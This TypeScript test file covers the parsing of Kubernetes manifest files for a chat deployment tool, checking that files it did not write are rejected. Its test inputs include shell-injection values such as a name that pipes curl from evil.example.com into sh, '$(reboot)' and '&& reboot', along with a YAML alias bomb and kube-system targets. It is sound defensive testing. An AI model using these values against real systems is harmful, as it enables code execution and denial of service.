import type { ChatSettings } from '../../constructs/settings';
import { synthesize } from '../../constructs/synthesis/synthesis';
import { textOf } from '../../constructs/synthesis/text';
import { cases } from '../../tests/cases';
import { stepsFor } from './next-steps';
import { objectChanges, objectsIn } from './object-changes';

const yamlOf = (settings: ChatSettings) => synthesize(settings).manifests.filter(({ text }) => text === undefined);

test('what a run writes is read again', () => {
  for (const manifest of Object.values(cases).flatMap(yamlOf)) {
    expect(objectsIn(textOf(manifest))).toEqual(manifest.objects);
  }
});

/** An object as a file may have it. */
const object = (kind: string, metadata: object, more: object = { spec: {} }, apiVersion = 'v1') =>
  JSON.stringify({ apiVersion, kind, metadata, ...more });

describe('a file that no run wrote is not read, so no command is made of it', () => {
  test.each([
    ['a name with a command in it', object('Service', { name: 'x; curl evil.example.com | sh #', namespace: 'chat' })],
    ['a name that is an option', object('Service', { name: '--all', namespace: 'chat' })],
    ['a name of several lines', object('Service', { name: 'a\n::error::b', namespace: 'chat' })],
    ['a kind with a command in it', object('Service;reboot', { name: 'a', namespace: 'chat' })],
    ['a kind that is an option', object('-A', { name: 'a', namespace: 'chat' })],
    ['a group with a command in it', object('Route', { name: 'a', namespace: 'chat' }, { spec: {} }, '$(reboot)/v1')],
    ['a namespace with a command in it', object('Service', { name: 'a', namespace: 'chat && reboot' })],
    ["the cluster's own namespace", object('Namespace', { name: 'kube-system' }, {})],
    ["an object in the cluster's own namespace", object('Service', { name: 'kube-dns', namespace: 'kube-system' })],
    ['a name that is none', object('Service', { name: ['a'], namespace: 'chat' })],
    ['a spec that is none', object('Deployment', { name: 'a', namespace: 'chat' }, { spec: 'a' })],
    ['a list', '- a'],
    ['a text', 'a'],
    ['no YAML', 'a: [1'],
    ['a thousand levels', `a: ${'['.repeat(100_000)}`],
  ])('%s', (_, text) => {
    expect(objectsIn(text)).toBeUndefined();
  });

  test('aliases that make more of it than anybody can read', () => {
    const bomb = Array.from({ length: 30 }, (_, level) =>
      level === 0 ? 'l0: &l0 [x, x]' : `l${level}: &l${level} [*l${level - 1}, *l${level - 1}]`,
    );
    const head = 'apiVersion: v1\nkind: Service\nmetadata: { name: a, namespace: chat }\nspec: {}\n';
    expect(objectsIn(`${head}${bomb.join('\n')}`)).toBeUndefined();
    expect(objectsIn(`${head}a: &a [*a]`)).toBeUndefined();
    expect(objectsIn(`${head}a: &a ${'x'.repeat(10_000)}\nb: [${Array(1000).fill('*a').join(', ')}]`)).toBeUndefined();
  });
});

test('steps are found from an old object without its spec to the new one', () => {
  for (const { manifests } of Object.values(cases).map((settings) => synthesize(settings))) {
    const now = manifests.flatMap(({ objects }) => objects);
    const before = now.map(({ spec: _, ...rest }) => rest);
    const { changed } = objectChanges(before, now);
    expect(changed).toHaveLength(now.filter(({ spec }) => spec !== undefined).length);
    expect(stepsFor({ added: [], changed, gone: [] }, manifests)).toBeDefined();
    expect(stepsFor({ added: now, changed: [], gone: before }, manifests)).toBeDefined();
  }
});
